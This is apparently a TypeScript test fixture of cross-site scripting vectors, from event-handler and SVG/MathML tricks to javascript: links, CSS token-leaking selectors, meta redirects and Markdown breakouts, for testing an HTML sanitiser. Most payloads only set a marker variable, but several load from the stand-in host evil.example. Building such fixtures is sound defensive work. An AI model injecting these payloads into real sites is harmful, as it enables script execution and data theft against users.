/**
 * Attempts to run a script, to load something foreign or to lead a reader away, after OWASP's cheat sheet, Cure53's
 * HTML5 security cheat sheet, PortSwigger's list and published holes of sanitisers. Each tries to set `window.__xss`,
 * or to ask `evil.example` for something.
 */

const RUN = '__xss=1'
const EVIL = 'https://evil.example'

const lines = (text: string): string[] => text.split('\n').filter((line) => line.trim() !== '')

/** Handlers that run without anybody doing anything, and some that wait for a hand. */
const HANDLERS = lines(`
<img src=x onerror=${RUN}>
<img src=x onerror="${RUN}">
<img src=x onerror='${RUN}'>
<img src=x onerror=\`${RUN}\`>
<img src=x OnErRoR=${RUN}>
<img src=x onerror =${RUN}>
<img/src=x/onerror=${RUN}>
<img	src=x	onerror=${RUN}>
<img src=x onerror&#61;${RUN}>
<img src=x onerror=&#95;&#95;xss&#61;1>
<img src=x onerror=\\u005f\\u005fxss=1>
<img src=x onerror="window['__x'+'ss']=1">
<img src=x:x onerror=eval(src) alt=x>
<img src="x\`> <script>${RUN}</script>"\` \`>
<img src=x onload=${RUN}>
<img """><script>${RUN}</script>">
<img src=x style="x:expression(${RUN})" onerror=${RUN}>
<image src=x onerror=${RUN}>
<image href=x onerror=${RUN}>
<svg onload=${RUN}>
<svg/onload=${RUN}>
<svg onload=${RUN}//
<svg><g onload=${RUN}></g></svg>
<svg><script>${RUN}</script></svg>
<svg><script>&#95;_xss=1</script></svg>
<svg><script href="data:,${RUN}" /></svg>
<svg><script xlink:href="${EVIL}/x.js"></script></svg>
<svg><animate onbegin=${RUN} attributeName=x dur=1s>
<svg><set onbegin=${RUN} attributeName=x dur=1s>
<svg><animate attributeName=href values="javascript:${RUN}" /><a id=x><text y=20>Klick</text></a>
<svg><a xlink:href="javascript:${RUN}"><text y=20>Klick</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x" />
<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>
<svg><style><img src=x onerror=${RUN}></style></svg>
<svg><image href="${EVIL}/x.png"></svg>
<svg><desc><img src=x onerror=${RUN}></desc></svg>
<svg><title><img src=x onerror=${RUN}></title></svg>
<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>
<svg></p><style><a id="</style><img src=x onerror=${RUN}>">
<math><mi//xlink:href="data:x,<script>${RUN}</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">
<math><mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>
<math href="javascript:${RUN}">Klick</math>
<math><maction actiontype="statusline#https://x" xlink:href="javascript:${RUN}">Klick</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>
<body onload=${RUN}>
<body onpageshow=${RUN}>
<body onscroll=${RUN}><br><br><input autofocus>
<body background="javascript:${RUN}">
<body background="${EVIL}/x.png">
<frameset onload=${RUN}><frame src=x></frameset>
<iframe onload=${RUN}></iframe>
<iframe src="javascript:${RUN}"></iframe>
<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>
<iframe src="${EVIL}/"></iframe>
<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>
<object data="javascript:${RUN}"></object>
<object data="data:text/html,<script>${RUN}</script>"></object>
<object data="${EVIL}/x.swf"><param name=x value=x></object>
<embed src="javascript:${RUN}">
<embed src="${EVIL}/x.swf" allowscriptaccess=always>
<applet code="${EVIL}/x.class"></applet>
<video src=x onerror=${RUN}></video>
<video><source onerror=${RUN}></video>
<video poster="javascript:${RUN}"></video>
<video poster="${EVIL}/x.png" src="${EVIL}/x.mp4" autoplay></video>
<video onloadstart=${RUN}><source></video>
<audio src=x onerror=${RUN}></audio>
<audio src="${EVIL}/x.mp3" autoplay></audio>
<audio onloadstart=${RUN} src=x></audio>
<picture><source srcset="${EVIL}/x.png"><img src=x onerror=${RUN}></picture>
<img srcset="${EVIL}/x.png 1x" src=x>
<img src="${EVIL}/x.png">
<img src="//evil.example/x.png">
<img lowsrc="${EVIL}/x.png" dynsrc="${EVIL}/y.png">
<input autofocus onfocus=${RUN}>
<input type=image src=x onerror=${RUN}>
<input type=image src="${EVIL}/x.png">
<input onblur=${RUN} autofocus><input autofocus>
<textarea autofocus onfocus=${RUN}></textarea>
<select autofocus onfocus=${RUN}><option>x</select>
<keygen autofocus onfocus=${RUN}>
<button autofocus onfocus=${RUN}>x</button>
<a autofocus onfocus=${RUN} href=#>x</a>
<p tabindex=0 autofocus onfocus=${RUN}>x</p>
<p contenteditable autofocus onfocus=${RUN}>x</p>
<details open ontoggle=${RUN}>x</details>
<details ontoggle=${RUN} open><summary>x</summary></details>
<dialog open onclose=${RUN} oncancel=${RUN}>x</dialog>
<marquee onstart=${RUN}>x</marquee>
<marquee loop=1 width=0 onfinish=${RUN}>x</marquee>
<isindex type=image src=x onerror=${RUN}>
<p onmouseover=${RUN}>x</p>
<p onclick=${RUN} style="position:fixed;inset:0">x</p>
<p onpointerenter=${RUN} style="position:fixed;inset:0">x</p>
<p onanimationstart=${RUN} style="animation:x">x</p>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${RUN}>x</p>
<style>p{transition:color 1s}</style><p ontransitionend=${RUN} onwebkittransitionend=${RUN}>x</p>
<xss onafterscriptexecute=${RUN}><script>1</script>
<xss oncontentvisibilityautostatechange=${RUN} style=display:block;content-visibility:auto>
<x id=x tabindex=1 onfocus=${RUN}></x>
<custom-element onclick=${RUN}>x</custom-element>
<div popover id=x onbeforetoggle=${RUN}>x</div><button popovertarget=x>x</button>
<a onauxclick=${RUN} oncontextmenu=${RUN} href=#>x</a>
<track default oncuechange=${RUN} src="data:text/vtt,WEBVTT">
<bgsound src="javascript:${RUN}">
<layer src="${EVIL}/x.html"></layer>
<portal src="javascript:${RUN}" onload=${RUN}></portal>
`)

/** Scripts, styles, and what changes how a page is read. */
const ELEMENTS = lines(`
<script>${RUN}</script>
<SCRIPT>${RUN}</SCRIPT>
<ScRiPt>${RUN}</sCrIpT>
<script >${RUN}</script >
<script/x>${RUN}</script>
<script
>${RUN}</script>
<script>${RUN}
<script src="${EVIL}/x.js"></script>
<script src=//evil.example/x.js></script>
<script src=\\\\evil.example\\x.js></script>
<script src="data:,${RUN}"></script>
<script type=module>window.${RUN}</script>
<script type=importmap>{"imports":{"x":"${EVIL}/x.js"}}</script>
<script type="text/vbscript">${RUN}</script>
<script async defer src="${EVIL}/x.js"></script>
<script<b>>${RUN}</script<b>>
<<script>${RUN}//<</script>
<scr<script>ipt>${RUN}</scr</script>ipt>
<scr\u0000ipt>${RUN}</scr\u0000ipt>
<script>/*<!--*/${RUN}//--></script>
<!--><script>${RUN}</script>-->
<!--!><script>${RUN}</script>
<!-- --!><script>${RUN}</script>
<!---><script>${RUN}</script>
<![CDATA[<script>${RUN}</script>]]>
<?xml version="1.0"?><script>${RUN}</script>
<?php echo '<script>${RUN}</script>' ?>
<!ENTITY x "<script>${RUN}</script>">&x;
<!doctype html><script>${RUN}</script>
<![if !IE]><script>${RUN}</script><![endif]>
<noscript><p title="</noscript><img src=x onerror=${RUN}>">
<noscript><style></noscript><img src=x onerror=${RUN}></style>
<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>
<title><img title="</title><img src=x onerror=${RUN}>"></title>
<style><img title="</style><img src=x onerror=${RUN}>"></style>
<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>
<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>
<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>
<plaintext><script>${RUN}</script>
<template><script>${RUN}</script></template>
<template shadowrootmode=open><script>${RUN}</script><img src=x onerror=${RUN}></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">
<select><iframe><select><img src=x onerror=${RUN}>
<table><td background="${EVIL}/x.png">x</table>
<table><script>${RUN}</script></table>
<table><caption><svg><title><table><tbody><tr><td></title><img src=x onerror=${RUN}></table>
<style>*{background:url(${EVIL}/x.png)}</style>
<style>@import url(${EVIL}/x.css);</style>
<style>@import'${EVIL}/x.css';</style>
<style>body{display:none}</style>
<style>input[name=token][value^=a]{background:url(${EVIL}/a)}</style>
<style>p{-moz-binding:url("${EVIL}/x.xml#x");behavior:url(x.htc)}</style>
<link rel=stylesheet href="${EVIL}/x.css">
<link rel=stylesheet href="data:text/css,*{background:url(${EVIL}/x)}">
<link rel=preload as=script href="${EVIL}/x.js">
<link rel=prefetch href="${EVIL}/">
<link rel=dns-prefetch href="//evil.example">
<link rel=preconnect href="${EVIL}">
<link rel=modulepreload href="${EVIL}/x.js">
<link rel=icon href="${EVIL}/x.ico">
<link rel=manifest href="${EVIL}/x.json">
<link rel=import href="${EVIL}/x.html">
<meta http-equiv=refresh content="0;url=${EVIL}/">
<meta http-equiv=refresh content="0;url=javascript:${RUN}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">
<meta http-equiv=set-cookie content="a=b">
<meta http-equiv=content-security-policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-
<meta name=referrer content=unsafe-url>
<base href="${EVIL}/">
<base href="javascript:/x/">
<form action="${EVIL}/" method=post><button>x</button></form>
<form action="javascript:${RUN}"><input type=submit autofocus></form>
</form><form action="${EVIL}/"><input name=name>
<button form=x formaction="javascript:${RUN}">x</button>
<input type=submit formaction="${EVIL}/" form=x>
<isindex action="javascript:${RUN}">
<html manifest="${EVIL}/x.appcache"><script>${RUN}</script>
</body></html><script>${RUN}</script>
</article></main></body><script>${RUN}</script>
</p></div></section><script>${RUN}</script>
</title><script>${RUN}</script>
</style><script>${RUN}</script>
</textarea><script>${RUN}</script>
</script><script>${RUN}</script>
</script><img src=x onerror=${RUN}><script type="application/ld+json">
<div id=__proto__ name=constructor><a id=location href="${EVIL}">x</a></div>
<img name=getElementById><form id=body><input name=attributes></form>
<a id=defaultView></a><a id=defaultView name=__xss>x</a>
<div style="background:url(${EVIL}/x.png)">x</div>
<div style="width:expression(${RUN})">x</div>
<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>
<div style="background:url(javascript:${RUN})">x</div>
<p style="font-family:'x\\22};*{background:url(${EVIL}/x)}'">x</p>
<font color="red" face="x" size=7 onclick=${RUN}>x</font>
<aside class="ad-slot"></aside>
<aside class="ad-slot"><img src=x onerror=${RUN}></aside>
<p class="skip" id="inhalt">x</p>
`)

/** Addresses that run or lead away, as they stand in a link. */
const ADDRESSES = lines(`
javascript:${RUN}
JavaScript:${RUN}
 javascript:${RUN}
javascript&colon;${RUN}
javascript&#58;${RUN}
javascript&#x3a;${RUN}
&#106;avascript:${RUN}
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}
java&#10;script:${RUN}
java&Tab;script:${RUN}
java&NewLine;script:${RUN}
java%0ascript:${RUN}
java\tscript:${RUN}
\u0001javascript:${RUN}
\u00a0javascript:${RUN}
javascript://%0a${RUN}
javascript://evil.example/%0a${RUN}
javascript:/*https://*/${RUN}
javascript:void(${RUN})
vbscript:${RUN}
livescript:${RUN}
mocha:${RUN}
data:text/html,<script>${RUN}</script>
data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+
data:image/svg+xml,<svg onload=${RUN} xmlns='http://www.w3.org/2000/svg'/>
view-source:javascript:${RUN}
feed:javascript:${RUN}
jar:javascript:${RUN}!/
blob:${EVIL}/x
file:///etc/passwd
filesystem:${EVIL}/x
intent://evil.example/#Intent;end
//evil.example/
\\\\evil.example\\
/\\evil.example/
https:evil.example
https:/evil.example
https://beispiel.de@evil.example/"onmouseover="${RUN}
https://beispiel.de/"onmouseover="${RUN}
https://beispiel.de/'onmouseover='${RUN}
https://beispiel.de/"><script>${RUN}</script>
https://beispiel.de/\`onmouseover=${RUN}
https://beispiel.de/ onmouseover=${RUN}
https://beispiel.de/#"><img src=x onerror=${RUN}>
https://beispiel.de/?a=<svg/onload=${RUN}>
https://beispiel.de/&quot;onmouseover=&quot;${RUN}
https://beispiel.de/%22onmouseover=%22${RUN}
https://[::1]"onmouseover=${RUN}
https://xn--evil/"><b onclick=${RUN}>
http://https://"onmouseover="${RUN}
`)

/** Pieces of HTML: to be sent as text, and to stand in an article's Markdown. */
export const HTML_VECTORS: readonly string[] = [
  ...HANDLERS,
  ...ELEMENTS,
  ...ADDRESSES.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">Klick</a>`),
]

/** Texts that break out of where text stands: attributes, JSON, Markdown, entities, other encodings. */
export const TEXT_VECTORS: readonly string[] = [
  ...ADDRESSES,
  ...lines(`
" onfocus=${RUN} autofocus x="
' onfocus=${RUN} autofocus x='
" onfocus="${RUN}" autofocus="
"><script>${RUN}</script>
'><script>${RUN}</script>
\`><script>${RUN}</script>
"/><img src=x onerror=${RUN}>
" style="background:url(${EVIL}/x)
" accesskey="x" onclick="${RUN}
" onload=${RUN} "
">\u2028<script>${RUN}</script>
--><script>${RUN}</script><!--
]]><script>${RUN}</script>
"}</script><script>${RUN}</script>
","x":"</script><script>${RUN}</script>
\\"};${RUN};//
\\u003cscript\\u003e${RUN}\\u003c/script\\u003e
\\x3cscript\\x3e${RUN}\\x3c/script\\x3e
&lt;script&gt;${RUN}&lt;/script&gt;
&#60;script&#62;${RUN}&#60;/script&#62;
&#x3c;script&#x3e;${RUN}
&amp;lt;script&amp;gt;${RUN}
%3Cscript%3E${RUN}%3C/script%3E
+ADw-script+AD4-${RUN}+ADw-/script+AD4-
\uff1cscript\uff1e${RUN}\uff1c/script\uff1e
\u02c2script\u02c3${RUN}
\u00bcscript\u00be${RUN}\u00bc/script\u00be
<\u0000script>${RUN}</script>
<\ufeffscript>${RUN}</script>
<scr\u00adipt>${RUN}</script>
\${${RUN}}
{{constructor.constructor('${RUN}')()}}
{{7*7}}<%= ${RUN} %>#{${RUN}}
[Klick](javascript:${RUN})
[Klick](<javascript:${RUN}>)
[Klick](data:text/html,<script>${RUN}</script>)
[Klick](vbscript:${RUN} "Titel")
[Klick](https://beispiel.de "x\\" onmouseover=${RUN} \\"")
[Klick]: javascript:${RUN}
![x](javascript:${RUN})
![x](${EVIL}/x.png)
![x](x" onerror="${RUN})
<javascript:${RUN}>
<https://beispiel.de/"onmouseover=${RUN}>
[^1]: <script>${RUN}</script>
# <script>${RUN}</script>
| <script>${RUN}</script> |
> <script>${RUN}</script>
\`<script>${RUN}</script>\`
~~~"><script>${RUN}</script>
~~~<img src=x onerror=${RUN}>
`),
]
